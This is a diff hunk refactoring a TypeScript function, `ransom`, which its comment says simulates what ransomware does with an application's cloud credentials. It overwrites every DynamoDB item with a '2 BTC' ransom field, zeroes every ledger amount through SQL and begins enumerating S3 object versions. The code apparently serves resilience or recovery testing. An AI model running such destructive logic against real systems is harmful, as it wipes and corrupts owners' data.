@@ -3,15 +3,15 @@ import { DeleteObjectCommand, ListObjectVersionsCommand, PutObjectCommand } from
 import type { Application } from './application';
 
 /** What ransomware does with the credentials of an application: to the database, the table, and every version of every object. */
-export async function ransom({ places, clients, sql }: Pick<Application, 'places' | 'clients' | 'sql'>): Promise<void> {
-  const { dynamodb, s3 } = clients;
-  const { table: TableName, bucket: Bucket } = places;
+export async function ransom(shop: Application): Promise<void> {
+  const { dynamodb, s3 } = shop.clients;
+  const { table: TableName, bucket: Bucket } = shop.places;
   const { Items = [] } = await dynamodb.send(new ScanCommand({ TableName }));
   for (const { id } of Items) {
     const Item = { id: id!, ransom: { S: '2 BTC' } };
     await dynamodb.send(new PutItemCommand({ TableName, Item }));
   }
-  await sql(async (ledger) => {
+  await shop.sql(async (ledger) => {
     await ledger.query("UPDATE entries SET cents = 0; ALTER TABLE entries ADD COLUMN ransom text DEFAULT '2 BTC'");
   });
   const { Versions = [] } = await s3.send(new ListObjectVersionsCommand({ Bucket }));
